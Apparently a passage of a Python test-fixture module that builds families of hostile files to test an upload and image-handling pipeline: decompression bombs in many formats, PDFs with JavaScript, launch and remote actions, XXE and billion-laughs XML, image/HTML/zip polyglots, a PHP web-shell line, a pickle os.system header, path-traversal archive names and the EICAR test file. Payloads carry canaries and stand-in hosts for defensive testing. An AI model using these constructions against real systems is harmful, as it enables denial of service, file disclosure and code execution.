"""Files that attack, made here: thirty families (assurance R6), the same for the same seed, none taken from anywhere.

Each carries what must never come out of it: a canary, and the bytes of its second nature.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import cache

import pikepdf
import pillow_heif
from PIL import Image, ImageDraw, PngImagePlugin

from permis.adapters.antivirus import TEST_FILE
from permis.vision.files import JPEG, LIMIT, PNG

CANARY = b"CANARI-48.85661N-2.35222E"
SCRIPT = b"<html><body><script>alert('" + CANARY + b"')</script></body></html>"
FORMATS = ("JPEG", "PNG", "WEBP", "TIFF", "HEIC", "PDF")


@dataclass(frozen=True)
class Hostile:
    """One file. `hidden`: what must not be found in anything kept of it."""

    family: str
    variant: str
    data: bytes
    hidden: tuple[bytes, ...] = field(default=(CANARY,))


Maker = Callable[[random.Random, int], Iterator[Hostile | tuple[str, bytes]]]
FAMILIES: dict[str, tuple[Maker, int]] = {}  # the maker, and how many of it the long form asks for


def family(name: str, count: int) -> Callable[[Maker], Maker]:
    """Enters a maker: it is asked for up to `count` files and may have fewer."""

    def enter(maker: Maker) -> Maker:
        FAMILIES[name] = (maker, count)
        return maker

    return enter


def files(seed: int, *, few: int = 0) -> Iterator[Hostile]:
    """Every file of every family, or the first `few` of each. Made one by one: some weigh 20 MB."""
    for name, (maker, count) in FAMILIES.items():
        rng = random.Random(f"{seed}/{name}")
        wanted = min(few, count) if few else count
        for rank, made in enumerate(maker(rng, wanted)):
            if rank >= wanted:
                break
            yield made if isinstance(made, Hostile) else Hostile(name, *made)


@cache
def benign(format_: str, size: tuple[int, int] = (640, 480)) -> bytes:
    """A good file of this sort, from which the bad ones are made."""
    image = Image.effect_noise((size[0] // 8, size[1] // 8), 60).resize(size).convert("RGB")
    ImageDraw.Draw(image).rectangle((20, 20, size[0] // 2, size[1] // 2), fill=(200, 40, 40))
    out = io.BytesIO()
    if format_ == "HEIC":
        pillow_heif.from_pillow(image).save(out, quality=60)
    elif format_ == "TIFF":
        image.save(out, "TIFF", compression="tiff_lzw")
    else:
        image.save(out, format_)
    return out.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    """One chunk of a PNG."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(
    width: int, height: int, *, depth: int = 1, colour: int = 0, rows: int | None = None, more: bytes = b""
) -> bytes:
    """A PNG of nothing, of any size: 50 000 by 50 000 weighs 300 KB."""
    samples = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[colour]
    row = bytes((width * samples * depth + 7) // 8 + 1)
    packer, body = zlib.compressobj(9), bytearray()
    block = row * max(1, min(2000, (8 << 20) // len(row)))
    left = len(row) * (height if rows is None else rows)
    while left > 0:
        body += packer.compress(block[: min(left, len(block))])
        left -= len(block)
    body += packer.flush()
    palette = chunk(b"PLTE", bytes(768)) if colour == 3 else b""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return PNG + head + palette + more + chunk(b"IDAT", bytes(body)) + chunk(b"IEND", b"")


@family("PNG bombs", 24)
def _png_bombs(_rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    yield "50000 x 50000, 1 bit", png(50_000, 50_000)
    for width, height in (
        (2**31 - 1, 2**31 - 1),
        (2**31 - 1, 1),
        (1, 2**31 - 1),
        (0, 0),
        (120_000_000, 1),
        (65535, 1831),
    ):
        yield (
            f"{width} x {height}, no rows",
            png(min(width, 10), height, rows=0).replace(
                struct.pack(">I", min(width, 10)), struct.pack(">I", width), 1
            ),
        )
    for side in (10_954, 11_000, 20_000):
        for colour in (0, 3, 4, 6):
            yield (
                f"{side} x {side}, colour {colour}, 8 bits",
                png(side, side, depth=8, colour=colour, rows=200),
            )
    yield "interlaced 10000", png(10_000, 10_000, rows=10)[:28] + b"\1" + png(10_000, 10_000, rows=10)[29:]
    yield "many small chunks", png(300, 300, more=chunk(b"teSt", b"x") * 200_000)
    yield "a frame after another", png(300, 300, more=chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0)))
    yield "10900 x 10900, colour", png(10_900, 10_900, depth=8, colour=2)
    yield "7000 x 7000, 16 bits and layers", png(7000, 7000, depth=16, colour=6)


def sized(data: bytes, width: int, height: int) -> bytes:
    """A JPEG that says another size."""
    for mark in (b"\xff\xc0", b"\xff\xc2"):
        at = data.find(mark)
        if at > 0:
            return data[: at + 5] + struct.pack(">HH", height, width) + data[at + 9 :]
    raise ValueError("no frame")


@family("JPEG of absurd sizes", 20)
def _jpeg_sizes(_rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    out = io.BytesIO()
    Image.new("RGB", (640, 480), "white").save(out, "JPEG", progressive=True)
    for name, data in (("plain", benign("JPEG")), ("progressive", out.getvalue())):
        for width, height in (
            (65500, 65500),
            (65535, 1),
            (1, 65535),
            (0, 480),
            (640, 0),
            (65500, 1830),
            (10950, 10950),
        ):
            yield f"{name} {width} x {height}", sized(data, width, height)
    for sampling in (b"\x44", b"\xff", b"\x00", b"\x41"):
        data = benign("JPEG")
        at = data.index(b"\xff\xc0") + 11
        yield f"sampling {sampling.hex()}", data[:at] + sampling + data[at + 1 :]


@family("JPEG of a thousand scans", 8)
def _jpeg_scans(_rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    for side, count in ((8000, 300), (4000, 2000), (1500, 10_000)):
        out = io.BytesIO()
        Image.new("L", (side, side), "white").save(out, "JPEG", progressive=True)
        data = out.getvalue()
        start = data.index(b"\xff\xda")
        first = data[start : data.index(b"\xff\xda", start + 2)]
        fits = min(count, (LIMIT - len(data)) // len(first))
        yield f"{fits} scans of {side} x {side}", data[:start] + first * fits + data[start:]
    small = benign("JPEG")
    at = small.index(b"\xff\xda")
    for count in (100, 100_000):
        yield f"{count} tables", small[:at] + b"\xff\xfe\x00\x04ab" * count + small[at:]
    yield (
        "a million restarts",
        small[:at] + b"\xff\xdd\x00\x04\x00\x01" + small[at:-2] + b"\xff\xd0" * 1_000_000 + b"\xff\xd9",
    )


def saved(document: pikepdf.Pdf, **options: object) -> bytes:
    """The bytes of a PDF."""
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def blank(pages: int = 1, size: tuple[int, int] = (595, 842)) -> pikepdf.Pdf:
    """A PDF of empty pages."""
    document = pikepdf.new()
    for _ in range(pages):
        page = document.add_blank_page(page_size=(595, 842))
        page.obj.MediaBox = pikepdf.Array([0, 0, *size])
    return document


def squeezed(size: int) -> bytes:
    """Zeros, packed: a thousandth of their size."""
    packer, body = zlib.compressobj(9), bytearray()
    for _ in range(size >> 20):
        body += packer.compress(bytes(1 << 20))
    return bytes(body + packer.flush())


def with_stream(raw: bytes, filters: list[str], **keys: object) -> bytes:
    """A PDF whose page shows this picture, packed so."""
    document = blank()
    stream = pikepdf.Stream(document, raw)
    stream.Type, stream.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    stream.Filter = pikepdf.Array([pikepdf.Name(f"/{name}") for name in filters])
    for name, value in keys.items():
        stream[f"/{name}"] = value
    page = document.pages[0]
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(I=document.make_indirect(stream)))
    page.Contents = document.make_stream(b"q 595 0 0 842 0 0 cm /I Do Q")
    out = io.BytesIO()
    document.save(out, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)
    return out.getvalue()


@family("PDF bombs", 20)
def _pdf_bombs(_rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    grey = {"ColorSpace": pikepdf.Name.DeviceGray, "BitsPerComponent": 8}
    twice = zlib.compress(squeezed(300 << 20), 9)
    yield (
        "2 KB that unpack to 300 MB",
        with_stream(twice, ["FlateDecode", "FlateDecode"], Width=17_000, Height=17_000, **grey),
    )
    yield "300 MB of colour", with_stream(
        squeezed(300 << 20), ["FlateDecode"], Width=10_000, Height=10_000,
        ColorSpace=pikepdf.Name.DeviceRGB, BitsPerComponent=8,
    )  # fmt: skip
    three = zlib.compress(zlib.compress(squeezed(1 << 30), 9), 9)
    yield (
        "packed three times, 1 GB",
        with_stream(three, ["FlateDecode"] * 3, Width=30_000, Height=30_000, **grey),
    )
    yield (
        "packed 200 times",
        with_stream(squeezed(1 << 20), ["FlateDecode"] * 200, Width=1000, Height=1000, **grey),
    )
    for width, height in ((2**31 - 1, 2**31 - 1), (2**31 - 1, 1), (1, 2**31 - 1), (-5, -5), (65536, 65536)):
        yield (
            f"a picture of {width} x {height}",
            with_stream(squeezed(1 << 20), ["FlateDecode"], Width=width, Height=height, **grey),
        )
    document = blank()
    document.pages[0].Contents = pikepdf.Stream(document, b"q " * 5_000_000)
    yield "five million saves", saved(document)
    document = blank()
    document.pages[0].Contents = pikepdf.Stream(document, b"0 0 m " + b"500 700 l 10 20 l " * 500_000 + b"S")
    yield "a path of a million points", saved(document)
    for size in ((14_400, 14_400), (200_000, 200_000), (10**9, 10**9), (1, 1), (0, 0), (-600, -800)):
        yield f"a page of {size}", saved(blank(1, size))


@family("PDF of 10 000 pages", 6)
def _pdf_pages(_rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    for count in (10_000, 21, 0):
        yield f"{count} pages", saved(blank(count))
    document = blank(1)
    document.Root.Pages.Count = 2_000_000_000
    yield "says two thousand million", saved(document)
    document = blank(1)
    document.Root.Pages.Kids = pikepdf.Array([document.pages[0].obj] * 10_000)
    document.Root.Pages.Count = 10_000
    yield "one page ten thousand times", saved(document)
    document = blank(1)
    document.Root.Pages.Count = -1
    yield "says minus one", saved(document)


@family("PDF that goes round in circles", 16)
def _pdf_circles(_rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    for levels, width in ((6, 10), (8, 10), (30, 2), (3, 100)):
        document = blank()
        inner = pikepdf.Stream(document, b"0 0 1 1 re f " * width)
        drawn = document.make_indirect(inner)
        for level in range(levels + 1):
            if level:
                outer = pikepdf.Stream(document, b"/X Do " * width)
                outer.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=drawn))
                drawn = document.make_indirect(outer)
            drawn.Type, drawn.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
            drawn.BBox = pikepdf.Array([0, 0, 600, 800])
        document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=drawn))
        document.pages[0].Contents = document.make_stream(b"/X Do")
        yield f"{width} drawings in {width}, {levels} times", saved(document)
    document = blank()
    loop = document.make_indirect(pikepdf.Stream(document, b"/X Do"))
    loop.Type, loop.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
    loop.BBox = pikepdf.Array([0, 0, 600, 800])
    loop.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=loop))
    document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=loop))
    document.pages[0].Contents = document.make_stream(b"/X Do")
    yield "a drawing that draws itself", saved(document)
    plain = saved(blank())
    yield "its table of places points at itself", plain.replace(b"/Size ", b"/Prev 9 /Size ")
    yield (
        "a page tree that is its own child",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>",
    )
    for depth in (1000, 100_000, 1_000_000):
        yield (
            f"lists {depth} deep",
            b"%PDF-1.4\n1 0 obj" + b"[" * depth + b"]" * depth + b"endobj\ntrailer<</Root 1 0 R>>",
        )
    yield (
        "a hundred thousand objects",
        b"%PDF-1.4\n"
        + b"".join(b"%d 0 obj<<>>endobj\n" % n for n in range(100_000))
        + b"trailer<</Root 1 0 R>>",
    )
    yield (
        "a length that is its own stream",
        b"%PDF-1.4\n1 0 obj<</Length 1 0 R>>stream\nx\nendstream endobj\ntrailer<</Root 1 0 R>>",
    )
    shading = blank()
    shading.pages[0].Contents = shading.make_stream(b"/S sh " * 2000)
    function = pikepdf.Stream(shading, b"{ " + b"sin " * 50_000 + b"}")
    function.FunctionType, function.Domain, function.Range = (
        4,
        pikepdf.Array([0, 1]),
        pikepdf.Array([0, 1, 0, 1, 0, 1]),
    )
    shading.pages[0].Resources = pikepdf.Dictionary(
        Shading=pikepdf.Dictionary(
            S=pikepdf.Dictionary(
                ShadingType=2, ColorSpace=pikepdf.Name.DeviceRGB, Coords=pikepdf.Array([0, 0, 600, 800]),
                Function=shading.make_indirect(function), Extend=pikepdf.Array([True, True]),
            )
        )
    )  # fmt: skip
    yield "a shade that takes for ever to work out", saved(shading)


@family("PDF with JavaScript", 12)
def _pdf_js(_rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    code = "app.alert('" + CANARY.decode() + "');"
    for where in ("OpenAction", "names", "page open", "will close", "annotation", "form field"):
        for packed in (False, True):
            document = blank()
            script = document.make_stream(code.encode()) if packed else pikepdf.String(code)
            action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=script)
            _placed(document, where, action)
            yield f"{where}, {'stream' if packed else 'string'}", saved(document, compress_streams=packed)


def _placed(document: pikepdf.Pdf, where: str, action: pikepdf.Dictionary) -> None:
    page = document.pages[0]
    if where == "OpenAction":
        document.Root.OpenAction = action
    elif where == "names":
        document.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), action]))
        )
    elif where == "page open":
        page.obj.AA = pikepdf.Dictionary(O=action)
    elif where == "will close":
        document.Root.AA = pikepdf.Dictionary(WC=action)
    else:
        field_ = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget if where == "form field" else pikepdf.Name.Link,
            Rect=pikepdf.Array([0, 0, 500, 500]), A=action, FT=pikepdf.Name.Tx, T=pikepdf.String("x"),
            AA=pikepdf.Dictionary(K=action, F=action, V=action, C=action),
        )  # fmt: skip
        page.obj.Annots = pikepdf.Array([document.make_indirect(field_)])
        document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([page.obj.Annots[0]]))


@family("PDF that acts", 20)
def _pdf_acts(_rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    said = pikepdf.String(CANARY.decode())
    actions = {
        "Launch": pikepdf.Dictionary(
            S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"), Win=pikepdf.Dictionary(P=said)
        ),
        "URI": pikepdf.Dictionary(
            S=pikepdf.Name.URI, URI=pikepdf.String("http://canari.example/" + CANARY.decode())
        ),
        "SubmitForm": pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=said),
        "GoToR": pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\canari.example\\share")),
        "ImportData": pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=said),
    }
    for name, action in actions.items():
        for where in ("OpenAction", "page open", "annotation", "form field"):
            document = blank()
            _placed(document, where, pikepdf.Dictionary(dict(action)))
            yield f"{name}, {where}", saved(document)


@family("PDF with files inside", 8)
def _pdf_inside(_rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    for name, content in (
        ("a.exe", b"MZ" + CANARY),
        ("a.html", SCRIPT),
        ("a.pdf", saved(blank())),
        ("..\\a.js", CANARY),
    ):
        document = blank()
        document.attachments[name] = content
        yield f"attached {name}", saved(document)
        document = blank()
        spec = pikepdf.AttachedFileSpec(document, content, filename=name)
        document.pages[0].obj.Annots = pikepdf.Array(
            [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment,
                                Rect=pikepdf.Array([9, 9, 99, 99]), FS=spec.obj)]
        )  # fmt: skip
        yield f"pinned {name}", saved(document)


@family("PDF forms that live", 6)
def _pdf_xfa(_rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    xdp = (
        b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><script>"
        + CANARY
        + b"</script></template></xdp:xdp>"
    )
    entity = b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;" + CANARY + b"</a>"
    laughs = (
        b"<!DOCTYPE a [<!ENTITY a 'ha'>"
        + b"".join(b"<!ENTITY %c '%s'>" % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
        + b"]><a>&j;</a>"
    )
    for name, content in (("script", xdp), ("entity", entity), ("laughs", laughs)):
        for needs in (True, False):
            document = blank()
            document.Root.AcroForm = pikepdf.Dictionary(
                Fields=pikepdf.Array(), XFA=document.make_stream(content)
            )
            if needs:
                document.Root.NeedsRendering = True
            yield f"XFA {name}, {'live' if needs else 'beside pages'}", saved(document)


@family("PDF under lock", 8)
def _pdf_locked(_rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    for strength in (2, 3, 4, 6):
        for user in ("secret", ""):
            document = blank()
            document.docinfo["/Author"] = CANARY.decode()
            with_metadata = strength >= 4
            encryption = pikepdf.Encryption(
                owner="maitre", user=user, R=strength, aes=strength >= 4, metadata=with_metadata
            )
            yield (
                f"R{strength}, {'locked' if user else 'open to read'}",
                saved(document, encryption=encryption),
            )


@family("TIFF bombs and traps", 24)
def _tiff(_rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    def tiff(*tags: tuple[int, int, int, int], after: int = 0, tail: bytes = b"") -> bytes:
        rows = b"".join(struct.pack("<HHII", *tag) for tag in sorted(tags))
        return b"II*\0\x08\0\0\0" + struct.pack("<H", len(tags)) + rows + struct.pack("<I", after) + tail

    def picture(width: int, height: int, *, bits: int = 8, packed: int = 1, photo: int = 1, samples: int = 1,
                place: int = 8, size: int = 1000, rows: int | None = None, **more: int) -> bytes:  # fmt: skip
        tags = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, bits), (259, 3, 1, packed), (262, 3, 1, photo),
                (273, 4, 1, place), (277, 3, 1, samples), (278, 4, 1, height if rows is None else rows),
                (279, 4, 1, size)]  # fmt: skip
        return tiff(*tags, **more, tail=bytes(2000))  # type: ignore[arg-type]

    for width, height in (
        (50_000, 50_000),
        (2**32 - 1, 2**32 - 1),
        (2**31, 1),
        (300, 2**31 - 1),
        (10_000, 11_900),
    ):
        for bits, packed in ((8, 1), (1, 4)):
            yield (
                f"{width} x {height}, {bits} bits, packed {packed}",
                picture(width, height, bits=bits, packed=packed),
            )
    yield "its next page is itself", picture(300, 300, after=8)
    yield "its next page is past its end", picture(300, 300, after=2**31)
    yield "its pixels are past its end", picture(300, 300, place=2**31, size=2**31)
    yield "a strip of no rows", picture(300, 300, rows=0)
    yield "sixty thousand samples", picture(300, 300, samples=65_535)
    yield (
        "a tag of 4 GB",
        tiff((256, 4, 1, 300), (257, 4, 1, 300), (273, 4, 2**30, 8), (270, 2, 2**32 - 1, 8)),
    )
    out = io.BytesIO()
    Image.new("RGB", (10_900, 10_900)).save(out, "TIFF", compression="tiff_adobe_deflate")
    yield "10900 x 10900 packed", out.getvalue()
    out = io.BytesIO()
    Image.new("1", (10_900, 10_900)).save(out, "TIFF", compression="group4")
    yield "10900 x 10900 of a fax", out.getvalue()
    pages = [Image.new("1", (200, 200))] * 300
    out = io.BytesIO()
    pages[0].save(out, "TIFF", save_all=True, append_images=pages[1:])
    yield "300 pages", out.getvalue()
    out = io.BytesIO()
    big = Image.new("L", (10_900, 10_900))
    big.save(out, "TIFF", save_all=True, append_images=[big] * 19, compression="tiff_adobe_deflate")
    yield "20 pages of 119 megapixels", out.getvalue()


@family("WebP bombs", 12)
def _webp(_rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    good = benign("WEBP")

    def canvas(width: int, height: int, flags: int, content: bytes) -> bytes:
        head = (
            bytes([flags, 0, 0, 0]) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
        )
        body = b"WEBPVP8X" + struct.pack("<I", 10) + head + content
        return b"RIFF" + struct.pack("<I", len(body)) + body

    for flags in (0, 2, 16):
        for size in ((16_384, 7000), (16_777_216, 16_777_216), (16_383, 16_383)):
            yield f"canvas {size}, flags {flags}", canvas(*size, flags, good[12:])
    out = io.BytesIO()
    Image.new("RGB", (10_000, 10_000)).save(out, "WEBP", quality=1, method=0)
    yield "10000 x 10000", out.getvalue()
    out = io.BytesIO()
    frames = [Image.new("RGB", (400, 400), (n % 256, 0, 0)) for n in range(300)]
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:], method=0)
    yield "300 frames", out.getvalue()
    yield "says another length", good[:4] + struct.pack("<I", 2**32 - 2) + good[8:]


@family("HEIC bombs", 14)
def _heic(_rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    good = benign("HEIC")
    at = good.index(b"ispe") + 8
    for width, height in (
        (65_535, 65_535),
        (2**31 - 1, 2**31 - 1),
        (2**32 - 1, 1),
        (0, 0),
        (32_768, 32_768),
        (10_950, 10_950),
    ):
        yield f"says {width} x {height}", good[:at] + struct.pack(">II", width, height) + good[at + 8 :]
    for box in (b"iloc", b"iinf", b"ipco", b"ipma", b"meta"):
        place = good.index(box)
        yield f"{box.decode()} of 4 GB", good[: place - 4] + b"\xff\xff\xff\xff" + good[place:]
    nested = b""
    for _ in range(5000):
        nested = struct.pack(">I", len(nested) + 8) + b"meta" + nested
        if len(nested) > 1_000_000:
            break
    yield "boxes 5000 deep", good[:24] + nested
    pixels = Image.new("RGB", (9000, 9000))
    out = io.BytesIO()
    pillow_heif.from_pillow(pixels).save(out, quality=1)
    yield "81 megapixels in a few bytes", out.getvalue()


@family("colour profiles that burst", 10)
def _icc(_rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    yield "PNG profile of 300 MB", png(300, 300, more=chunk(b"iCCP", b"x\0\0" + squeezed(300 << 20)))
    yield "PNG text of 300 MB", png(300, 300, more=chunk(b"zTXt", b"x\0\0" + squeezed(300 << 20)))
    yield "a thousand texts of 1 MB", png(300, 300, more=chunk(b"zTXt", b"x\0\0" + squeezed(1 << 20)) * 1000)
    for size in (60_000, 3_000_000, 15_000_000):
        out = io.BytesIO()
        image = Image.new("RGB", (400, 400))
        image.save(out, "JPEG", icc_profile=CANARY + bytes(size))
        yield f"JPEG profile of {size} bytes", out.getvalue()
    from PIL import ImageCms

    profile = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    for name, place, value in (
        ("count", 128, 2**32 - 1),
        ("place", 136, 2**32 - 8),
        ("length", 140, 2**32 - 1),
        ("size", 0, 2**32 - 1),
    ):
        broken = bytes(profile[:place] + struct.pack(">I", value) + profile[place + 4 :]).replace(
            "sRGB".encode("utf-16-be"), "evil".encode("utf-16-be")
        )
        out = io.BytesIO()
        Image.new("RGB", (400, 400)).save(out, "JPEG", icc_profile=broken)
        yield f"profile with a wrong {name}", out.getvalue()


@family("archives that burst", 8)
def _archives(_rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    for name in ("word/document.xml", "content.xml", "[Content_Types].xml", "../../etc/passwd"):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for n in range(4):
                archive.writestr(f"{n}{name}", bytes(100 << 20))
        yield f"400 MB in {name}", out.getvalue()
    yield "an archive of archives", _nested_zip(6)
    yield "gzip", b"\x1f\x8b\x08\0\0\0\0\0\0\3" + squeezed(100 << 20)[2:-4]


def _nested_zip(levels: int) -> bytes:
    content = bytes(10 << 20)
    for level in range(levels):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for n in range(8):
                archive.writestr(f"{level}-{n}.zip", content)
        content = out.getvalue()
    return content


@cache
def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.html", SCRIPT)
    return out.getvalue()


@family("a picture that is also an archive", 12)
def _and_zip(_rng: random.Random, _count: int) -> Iterator[Hostile]:
    for format_ in FORMATS:
        data = benign(format_) + _zip()
        yield Hostile("a picture that is also an archive", format_, data, (CANARY, _zip()[:60], SCRIPT[:40]))
    comment = b"\xff\xfe" + struct.pack(">H", len(_zip()) + 2) + _zip()
    yield Hostile(
        "a picture that is also an archive", "in a comment", benign("JPEG")[:2] + comment + benign("JPEG")[2:]
    )


@family("a picture that is also a page", 16)
def _and_html(_rng: random.Random, _count: int) -> Iterator[Hostile]:
    name = "a picture that is also a page"
    comment = b"\xff\xfe" + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT
    yield Hostile(
        name, "JPEG comment", benign("JPEG")[:2] + comment + benign("JPEG")[2:], (CANARY, SCRIPT[:30])
    )
    yield Hostile(name, "JPEG, page first", SCRIPT + benign("JPEG"), (CANARY, SCRIPT[:30]))
    yield Hostile(
        name, "PNG text", png(300, 300, more=chunk(b"tEXt", b"Comment\0" + SCRIPT)), (CANARY, SCRIPT[:30])
    )
    for format_ in FORMATS:
        yield Hostile(name, f"{format_}, page last", benign(format_) + SCRIPT, (CANARY, SCRIPT[:30]))
    yield Hostile(name, "pixels that spell it", _spelt(SCRIPT), (CANARY, SCRIPT[:30]))
    yield Hostile(name, "PHP in a picture", benign("JPEG") + b"<?php system($_GET['" + CANARY + b"']); ?>")


def _spelt(words: bytes) -> bytes:
    """A picture whose raw pixels, were they kept as they are, would be this text."""
    out = io.BytesIO()
    text = (words * 2000)[: 300 * 300]
    Image.frombytes("L", (300, 300), text).save(out, "PNG", compress_level=0)
    return out.getvalue()


@family("GIF that is also a script", 6)
def _gif(_rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    yield "GIF89a=1", b"GIF89a=1;alert('" + CANARY + b"')"
    yield "GIF with a page", b"GIF89a" + bytes(20) + SCRIPT
    out = io.BytesIO()
    Image.new("P", (300, 300)).save(out, "GIF", comment=CANARY)
    yield "a good GIF", out.getvalue()
    yield "BMP with a script", b"BM/*" + bytes(20) + b"*/=1;alert('" + CANARY + b"')"


@family("PDF after something else", 10)
def _pdf_late(_rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    pdf = saved(blank())
    yield "a page, then a PDF at 900", (SCRIPT * 20)[:900] + pdf
    yield "a script, then a PDF at 900", (b"alert('" + CANARY + b"');//" + b" " * 900)[:900] + pdf
    yield "a PDF at 1023", b" " * 1023 + pdf
    yield "a PDF at 2000", b" " * 2000 + pdf
    yield "an archive, then a PDF", _zip() + pdf
    yield "a program, then a PDF", b"MZ" + bytes(500) + pdf
    yield "a GIF, then a PDF", b"GIF89a" + bytes(500) + pdf
    yield "two PDFs", pdf + saved(blank(2))
    yield "a picture, then a PDF", benign("JPEG") + pdf


@family("pages and drawings in disguise", 20)
def _disguised(_rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><text>" + CANARY + b"</text></svg>"
    yield "SVG as PNG", svg
    yield "SVG with a declaration", b"<?xml version='1.0'?>" + svg
    yield "SVG packed", b"\x1f\x8b\x08\0\0\0\0\0\0\3" + zlib.compress(svg)[2:-4]
    yield "HTML as PDF", SCRIPT
    yield "HTML that speaks of PDF", b"<!-- %PDF-1.7 -->" + SCRIPT
    yield "HTML in UTF-16", SCRIPT.decode().encode("utf-16")
    yield (
        "MHT",
        b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n"
        + SCRIPT,
    )
    yield (
        "XML with an entity",
        b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>" + CANARY,
    )
    yield "PostScript", b"%!PS-Adobe-3.0\n(" + CANARY + b") print systemdict /quit get exec"
    yield "RTF", b"{\\rtf1{\\object\\objocx " + CANARY + b"}}"
    yield (
        "MVG",
        b"push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'https://canari.example/x'\npop graphic-context",
    )
    yield "a shortcut", b"L\0\0\0\x01\x14\x02\0" + CANARY
    yield "a calendar", b"BEGIN:VCALENDAR\r\nSUMMARY:" + CANARY + b"\r\nEND:VCALENDAR"


@family("programs and other files", 20)
def _programs(rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    for name, head in (
        ("Windows program", b"MZ\x90\0"), ("Linux program", b"\x7fELF\2\1\1"), ("Mac program", b"\xcf\xfa\xed\xfe"),
        ("Java class", b"\xca\xfe\xba\xbe"), ("shell script", b"#!/bin/sh\n"), ("old Office", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        ("film", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom"), ("AVIF", b"\0\0\0\x18ftypavif\0\0\0\0mif1avif"),
        ("Matroska", b"\x1aE\xdf\xa3"), ("Flash", b"CWS\x0a"), ("Photoshop", b"8BPS\0\1"), ("JPEG 2000", b"\0\0\0\x0cjP  \r\n\x87\n"),
        ("icon", b"\0\0\1\0"), ("RAR", b"Rar!\x1a\x07"), ("7-Zip", b"7z\xbc\xaf\x27\x1c"), ("BMP", b"BM"),
        ("SQLite", b"SQLite format 3\0"), ("Python pickle", b"\x80\x04cos\nsystem\n"), ("noise", b""), ("text", b"Bonjour " * 50),
    ):  # fmt: skip
        yield name, head + CANARY + rng.randbytes(2000)


@family("the test virus", 20)
def _eicar(_rng: random.Random, _count: int) -> Iterator[Hostile]:
    name, virus = "the test virus", TEST_FILE
    hidden = (virus[:40],)
    yield Hostile(name, "plain", virus, hidden)
    yield Hostile(name, "plain with a line end", virus + b"\r\n", hidden)
    for packed in (False, True):
        document = blank()
        document.pages[0].Contents = pikepdf.Stream(document, virus)
        yield Hostile(
            name, f"in a stream of a PDF, packed: {packed}", saved(document, compress_streams=packed), hidden
        )
    document = blank()
    document.attachments["eicar.com"] = virus
    yield Hostile(name, "attached to a PDF", saved(document), hidden)
    exif = Image.Exif()
